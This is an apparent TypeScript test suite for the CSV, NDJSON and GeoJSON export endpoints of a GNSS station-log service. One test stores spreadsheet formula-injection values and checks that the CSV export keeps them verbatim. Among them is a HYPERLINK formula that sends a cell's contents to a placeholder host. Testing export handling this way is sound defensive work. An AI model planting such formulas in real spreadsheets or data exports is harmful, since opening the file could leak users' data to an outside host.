import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setImmediate as nextTurn } from 'node:timers/promises';
import type { FastifyInstance } from 'fastify';
import t, { type Test } from 'tap';
import { EXPORTS } from '../../schemas/index.js';
import { FIXED_HEADERS } from '../fixed-headers.js';
import { SAMPLE } from '../project-files.js';
import { workFor } from '../turns.js';
import { openService, type Service } from '../service.js';
import { violations } from '../violations.js';
import { writeTextLogs } from '../bench/synthetic-logs.js';
import { elementsIn, type Paged, refused } from './answers.js';
import { parseCsv } from './csv.js';
import { ask, listen } from './sockets.js';

const hasConnections = (app: FastifyInstance): Promise<boolean> =>
  new Promise((resolve) => app.server.getConnections((_error, count) => resolve(count > 0)));

interface Feature {
  type: string;
  id: number;
  geometry: { type: string; coordinates: number[] } | null;
  properties: Record<string, unknown>;
}

const idsIn = (elements: { id: number }[]): number[] => elements.map(({ id }) => id);

/** All formats of an export, parsed; they have the same elements in the same order. */
async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, query = '') {
  const read = async (format: string, mediaType: string): Promise<string> => {
    const { statusCode, headers, body } = await get(`/exports/${name}.${format}?${query}`);
    t.match(
      [statusCode, headers],
      [200, { ...FIXED_HEADERS, 'content-type': mediaType }],
      body.slice(0, 200),
    );
    return body;
  };
  const text = await read('csv', 'text/csv;charset=UTF-8;header=present');
  t.match(text, /\r\n$/);
  const csv = parseCsv(text);
  const lines = await read('ndjson', 'application/x-ndjson');
  const ndjson = lines
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Record<string, unknown> & { id: number });
  const component = `Exported${name[0]!.toUpperCase()}${name.slice(1, -1)}`;
  const geojson = JSON.parse(await read('geojson', 'application/geo+json;charset=UTF-8')) as {
    type: string;
    features: Feature[];
  };
  const wrong = ndjson.flatMap((element) => violations(component, element));
  t.same([wrong, geojson.type], [[], 'FeatureCollection'], component);
  const ids = idsIn(ndjson);
  t.same([csv.map(({ id }) => Number(id)), geojson.features.map(({ id }) => id)], [ids, ids]);
  t.same(
    ids,
    ids.toSorted((a, b) => a - b),
    'in the order of the ids',
  );
  return { csv, ndjson, features: geojson.features };
}

t.test(
  'CSV contains values that a spreadsheet takes for formulas exactly as they are on record',
  async (t) => {
    const service = await openService(t);
    const formulas = ['=HYPERLINK("http://x.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=1"];
    await service.importText({
      receivers: formulas.map((serial, n) => ({
        type: serial,
        serial,
        from: `200${n}-01-01`,
        to: `200${n}-02-01`,
      })),
    });
    const { csv } = await exported(t, service, 'installations');
    t.same(
      csv.map(({ type, serialNumber }) => [type, serialNumber]),
      formulas.map((each) => [each, each]),
    );
  },
);

t.test('exports have what the collections have', async (t) => {
  const service = await openService(t, [SAMPLE]);
  type Element = Record<string, unknown>;
  const all = async (url: string): Promise<Element[]> =>
    elementsIn((await service.get(url)).json<Paged>());
  const plain = ({ _links, ...element }: Element): Element => element;

  const sites = await exported(t, service, 'sites');
  // What the current log says beside its Site is in the collection alone.
  const ofSite = ({
    agencies: _agencies,
    datePrepared: _datePrepared,
    ...site
  }: Element): Element => plain(site);
  t.same(sites.ndjson, (await all('/corsSites?size=1000')).map(ofSite));
  const alic = sites.features.find(({ properties }) => properties.fourCharacterId === 'ALIC')!;
  t.match(alic, {
    type: 'Feature',
    geometry: { type: 'Point', coordinates: [133.88551389, -23.670125] },
  });
  t.notOk('latitude' in alic.properties);
  const row = sites.csv.find(({ fourCharacterId }) => fourCharacterId === 'ALIC');
  t.match(row, { latitude: '-23.670125', countryCode: 'AUS' });

  const setups = await exported(t, service, 'setups');
  const ofSites = setups.ndjson.map(({ site: _site, ...setup }) => setup);
  t.same(ofSites, (await all('/setups?size=1000')).map(plain));
  for (const query of [
    'mergeGaps=PT0S',
    'mergeGaps=P30D',
    'mergeGaps=P1D&recordedSince=2000-01-01',
  ]) {
    const inOrder = (changes: Element[]) =>
      changes
        .map(({ siteId, at, kind, equipmentType, gap }) =>
          JSON.stringify([siteId, at, kind, equipmentType, gap]),
        )
        .sort();
    const merged = (await exported(t, service, 'changes', query)).ndjson;
    t.same(inOrder(merged), inOrder(await all(`/changes?size=1000&${query}`)), query);
  }
  const changes = await exported(t, service, 'changes');
  const different = new Set(
    changes.ndjson.map(({ id: _id, site: _site, ...change }) => JSON.stringify(change)),
  );
  t.equal(different.size, (await all('/changes?size=1000')).length);
  t.same(Object.keys(changes.ndjson[0]!).slice(-2), ['id', 'site'], 'in the order of before');
  const names = Object.keys(setups.csv[0]!);
  t.notMatch(names.join(), /([a-z]{4,})\1/i);
  const filled = names.filter((name) => setups.csv.some((setup) => setup[name] !== ''));
  for (const name of [
    'antennaReferencePoint',
    'antennaCableType',
    'humiditySensorManufacturer',
    'humiditySensorAspiration',
  ])
    t.ok(filled.includes(name), name);
  const installations = await exported(t, service, 'installations');
  t.ok(installations.ndjson.length > 50, `${installations.ndjson.length} installations`);
  t.ok(installations.csv.every(({ equipmentType }) => equipmentType !== ''));
  const unknown = installations.csv
    .filter(({ from }) => from === '')
    .map(({ equipmentType }) => equipmentType);
  t.same(unknown, ['temperature sensor', 'other instrument']);
});

t.test(
  'changes are an offset list: the values before and after, and the end of the gap',
  async (t) => {
    const service = await openService(t);
    const eccentricity = (up: string) => ({
      'Marker->ARP Up Ecc. (m)': up,
      'Marker->ARP North Ecc(m)': '0',
      'Marker->ARP East Ecc(m)': '',
    });
    const antenna = {
      type: 'LEIAR25.R3      LEIT',
      serial: '09370012',
      from: '2011-01-01',
      to: '2012-01-01',
    };
    await service.importText({
      receivers: [
        {
          type: 'R1',
          serial: '1',
          from: '2011-01-01',
          to: '2013-01-01',
          more: { 'Firmware Version': '1.0' },
        },
        {
          type: 'R1',
          serial: '1',
          from: '2013-01-01T06:00Z',
          to: '2014-01-01',
          more: { 'Firmware Version': '2.0' },
        },
      ],
      antennas: [
        { ...antenna, more: eccentricity('0.0015') },
        {
          ...antenna,
          from: '2012-01-01',
          to: '',
          type: 'LEIAR25.R3',
          more: { ...eccentricity('1'), 'Antenna Radome Type': 'NONE' },
        },
      ],
    });
    const { csv, features } = await exported(t, service, 'changes');
    const eccentricities = ['Up', 'North', 'East'].map((each) => `markerArp${each}Eccentricity`);
    const names = ['model', 'radome', 'serialNumber', 'firmwareVersion', ...eccentricities];
    t.same(Object.keys(csv[0]!).slice(7, -1), [
      ...['at', 'gapTo', 'equipmentType', 'kind'],
      ...names.flatMap((name) => [`${name}Before`, `${name}After`]),
    ]);
    t.same(
      csv.map((row) => [
        row.at!.slice(0, 10),
        row.gapTo,
        row.kind,
        ...names.map((name) => `${row[`${name}Before`]}>${row[`${name}After`]}`),
      ]),
      [
        ['2011-01-01', '', 'installed', '>R1', '>', '>1', '>1.0', '>', '>', '>'],
        [
          '2011-01-01',
          '',
          'installed',
          '>LEIAR25.R3',
          '>LEIT',
          '>09370012',
          '>',
          '>0.0015',
          '>0',
          '>',
        ],
        [
          '2012-01-01',
          '',
          'reconfigured',
          'LEIAR25.R3>LEIAR25.R3',
          'LEIT>NONE',
          '09370012>09370012',
          '>',
          '0.0015>1',
          '0>0',
          '>',
        ],
        [
          '2013-01-01',
          '2013-01-01T06:00:00Z',
          'reconfigured',
          'R1>R1',
          '>',
          '1>1',
          '1.0>2.0',
          '>',
          '>',
          '>',
        ],
        ['2014-01-01', '', 'removed', 'R1>', '>', '1>', '2.0>', '>', '>', '>'],
      ],
    );
    const [, , radome] = features;
    t.match(radome!.properties, {
      gapTo: null,
      firmwareVersionBefore: null,
      markerArpUpEccentricityBefore: 0.0015,
      markerArpEastEccentricityAfter: null,
    });
  },
);

t.test('exports are filtered by an instant or a period', async (t) => {
  const service = await openService(t, [SAMPLE]);
  const at = await exported(t, service, 'setups', 'at=2013-07-08T00:45:00Z');
  const ids = at.csv.map(({ fourCharacterId }) => `id=${fourCharacterId}`).join('&');
  const list = (
    await service.get(`/setups/search/findAtByFourCharacterIdIn?at=2013-07-08T00:45:00Z&${ids}`)
  ).json<Paged<{ id: number }>>();
  const expected = idsIn(elementsIn(list)).sort((a, b) => a - b);
  t.same(idsIn(at.ndjson), expected);
  t.same((await exported(t, service, 'sites', 'at=1900-01-01')).csv, []);
  const receivers = async (query: string): Promise<number> =>
    (
      await exported(
        t,
        service,
        'installations',
        `site=alic&equipmentType=gnss%20receiver&${query}`,
      )
    ).csv.length;
  t.equal(await receivers('at=2012-01-01'), 1);
  t.ok((await receivers('from=2011-01-01&to=2014-01-01')) > 1);
  const setups = await exported(t, service, 'setups', 'site=alic&from=2011-12-12&to=2014-12-12');
  t.equal(setups.csv.length, 3, 'the Setups that overlap a period');
});

t.test(
  'exports of Sites and installations find words, as /corsSites and /equipment do',
  async (t) => {
    const service = await openService(t, [SAMPLE]);
    for (const id of ['TEST00FRA', 'TEST00AUS'])
      await service.importText({ id, receivers: [{ type: 'R1', from: '2001-01-01' }] });
    for (const q of [
      'test00fra%20r1',
      'alice',
      'leica',
      'ROGUE%20snr-8000',
      'alice&bbox=0,0,10,10',
      'nothing-like-it',
      '%00',
      '%20',
    ]) {
      const sites = (await service.get(`/corsSites?size=1000&q=${q}`)).json<
        Paged<{ id: number }>
      >();
      const ids = idsIn(elementsIn(sites)).sort((a, b) => a - b);
      t.same(idsIn((await exported(t, service, 'sites', `q=${q}`)).ndjson), ids, q);
    }
    t.match((await exported(t, service, 'sites', 'q=test00fra%20r1')).csv, [
      { nineCharacterId: 'TEST00FRA' },
    ]);
    for (const q of ['leica', '1830439', 'trimble%20netrs', 'nothing-like-it', '%00']) {
      const found = (await exported(t, service, 'installations', `q=${q}`)).csv;
      type Named = { type: string; serialNumber: string | null };
      const devices = elementsIn(
        (await service.get(`/equipment?size=1000&q=${q}`)).json<Paged<Named>>(),
      );
      const namesOf = (named: Named[]) =>
        new Set(named.map(({ type, serialNumber }) => `${type} ${serialNumber ?? ''}`));
      t.same(namesOf(found as unknown as Named[]), namesOf(devices), q);
    }
    t.equal((await service.get('/exports/setups.csv?q=alice')).statusCode, 400);
  },
);

t.test('installations.csv has the model and the radome of an antenna apart', async (t) => {
  const service = await openService(t);
  const antenna = (type: string, serial: string, radome?: string) => ({
    type,
    serial,
    from: '2001-01-01',
    more: radome === undefined ? {} : { 'Antenna Radome Type': radome },
  });
  await service.importText({
    receivers: [{ type: 'LEICA GR25', serial: '0', from: '2001-01-01' }],
    antennas: [
      antenna('LEIAR25.R3      LEIT', '1'),
      antenna('LEIAR25.R3      NONE', '2', 'NONE'),
      antenna('LEIAR25.R3', '3', 'LEIT'),
      antenna('LEIAR25.R3', '4'),
      // The radome that the log gives apart is the one that counts.
      antenna('LEIAR25.R3      NONE', '5', 'SCIS'),
    ],
  });
  const { csv, features } = await exported(t, service, 'installations');
  const expected = [
    ['0', 'LEICA GR25', ''],
    ['1', 'LEIAR25.R3', 'LEIT'],
    ['2', 'LEIAR25.R3', 'NONE'],
    ['3', 'LEIAR25.R3', 'LEIT'],
    ['4', 'LEIAR25.R3', ''],
    ['5', 'LEIAR25.R3', 'SCIS'],
  ];
  t.same(
    csv.map(({ serialNumber, model, radome }) => [serialNumber, model, radome]),
    expected,
  );
  t.same(
    features.map(({ properties }) => [properties.model, properties.radome]),
    expected.map(([, model, radome]) => [model, radome === '' ? null : radome]),
  );
  const changes = (await exported(t, service, 'changes')).csv;
  t.same(
    changes.map((each) => [each.serialNumberAfter, each.modelAfter, each.radomeAfter]).sort(),
    expected,
    'as in changes.csv',
  );
});

t.test('values of any kind survive CSV, and an empty database gives empty tables', async (t) => {
  const { get, importText, app } = await openService(t);
  for (const name of EXPORTS) {
    const { csv, features } = await exported(t, { get }, name);
    t.same([csv, features], [[], []], name);
  }
  await importText({
    id: 'QUOT',
    name: 'A "quoted", name',
    receivers: [
      { type: 'R', serial: '1,"2"', from: '2001-01-01' },
      { type: 'R', serial: '3', from: '2001-01-01' },
    ],
  });
  t.match((await exported(t, { get }, 'sites')).csv, [
    { name: 'A "quoted", name', latitude: '', longitude: '' },
  ]);
  t.match((await exported(t, { get }, 'sites')).features, [{ geometry: null }]);
  t.match((await exported(t, { get }, 'setups')).csv, [
    { receiverSerialNumber: '1,"2" | 3', effectiveTo: '', current: 'true' },
  ]);
  const head = await app.inject({ method: 'HEAD', url: '/exports/sites.csv' });
  t.match([head.statusCode, head.body], [200, '']);
  t.notOk('content-length' in head.headers, 'the answer to GET has none either');
});

t.test(
  'a decimal number has a decimal point in every GeoJSON, a number that counts none',
  async (t) => {
    const { get, importText } = await openService(t, [SAMPLE]);
    // Heights and positions without fractions, one of them replaced, for each table.
    const antenna = (from: string, to: string | undefined, up: string) => ({
      type: 'LEIAR10         NONE',
      serial: `${from} 1`,
      from,
      ...(to !== undefined && { to }),
      more: { 'Marker->ARP Up Ecc. (m)': up, 'Marker->ARP North Ecc(m)': '-2' },
    });
    await importText({
      antennas: [
        antenna('2001-01-01', '2002-01-01', '0.0000'),
        antenna('2002-01-01', undefined, '0.1440'),
      ],
    });
    const texts: [path: string, text: string][] = [];
    for (const name of EXPORTS) {
      const path = `/exports/${name}.geojson`;
      texts.push([path, (await get(path)).body]);
    }
    for (const name of ['sites', 'installations']) {
      const path = `/ogc/collections/${name}/items`;
      texts.push([path, (await get(`${path}?limit=1000`)).body]);
      texts.push([path, (await get(`${path}/1`)).body]);
    }
    // Numbers of resources, of lines and of Setups are whole by definition; all others are measures.
    const counts =
      /^(id|siteId|siteLogId|line|lastLine|setupsAdded|setupsSuperseded|numberMatched|numberReturned)$/;
    const numbers = texts.flatMap(([path, text]) =>
      [...text.matchAll(/"(\w+)":(-?[0-9][0-9.e+-]*)/g)].map(([, name, number]) => ({
        path,
        name: name!,
        number: number!,
      })),
    );
    const wrong = numbers.filter(
      ({ name, number }) => counts.test(name) !== /^-?\d+$/.test(number),
    );
    t.same(wrong, []);
    for (const name of ['markerArpUpEccentricity', 'antennaMarkerArpUpEccentricity', 'height'])
      t.ok(
        numbers.some((each) => each.name === name),
        name,
      );
    for (const name of ['markerArpUpEccentricityBefore', 'markerArpNorthEccentricityAfter'])
      t.ok(
        numbers.some((each) => each.name === name),
        name,
      );
    t.ok(numbers.some(({ number }) => number === '0.0'));
    t.ok(numbers.some(({ number }) => number === '-2.0'));
  },
);

t.test(
  'a value that the list of a path parameter does not have is 404 with the list',
  async (t) => {
    const service = await openService(t);
    for (const [path, detail] of [
      ['/exports/sites.xml', 'There is no format "xml" here. There are: csv, ndjson, geojson.'],
      [
        '/ogc/collections/setups/items?limit=1',
        'There is no collectionId "setups" here. There are: sites, installations.',
      ],
      [
        '/profile/pressureSensors',
        /^There is no name "pressureSensors" here\. There are: setups, corsSites, .*, equipment\.$/,
      ],
    ] as const) {
      t.match(await refused(t, service, path, 404, 'not-found'), { detail }, path);
    }
  },
);

/** In milliseconds. */
const LONGER_THAN_A_TURN = 5;

t.test('exports stop at the next window if their clients have gone', async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'gnss-'));
  t.teardown(() => rmSync(folder, { recursive: true }));
  writeTextLogs(folder, 400);
  const { app, store } = await openService(t, [folder]);
  const { exports } = store;
  let windows = 0;
  const { readEquipped, readSetups } = exports;
  exports.readEquipped = (numbers) => {
    windows++;
    workFor(LONGER_THAN_A_TURN);
    return readEquipped.call(exports, numbers);
  };
  exports.readSetups = async function* (search) {
    for await (const window of readSetups.call(exports, search)) {
      windows++;
      workFor(LONGER_THAN_A_TURN);
      yield window;
    }
  };
  const port = await listen(app);
  for (const path of ['/exports/sites.rinex.zip', '/exports/sites.snx', '/exports/setups.csv']) {
    windows = 0;
    t.equal((await ask(port, path)).status, 200);
    const complete = windows;
    t.ok(complete >= 4, `${path} has ${complete} windows`);
    windows = 0;
    const sockets = Array.from({ length: 50 }, () =>
      connect(port, '127.0.0.1').on('error', () => undefined),
    );
    await Promise.all(sockets.map((socket) => once(socket, 'connect')));
    for (const socket of sockets) socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`);
    // Once one of them has begun, all clients go. Node.js accepts a connection in each turn, and
    // learns in the next one that it is closed, so each client may have a window.
    while (windows === 0) await nextTurn();
    for (const socket of sockets) socket.destroy();
    t.equal((await ask(port, '/health')).status, 200);
    t.ok(windows <= 60, `${path}: ${windows} windows for 50 clients before /health`);
    while (await hasConnections(app)) await nextTurn();
    t.ok(windows <= 60, `${path}: ${windows} windows for 50 clients`);
  }
});
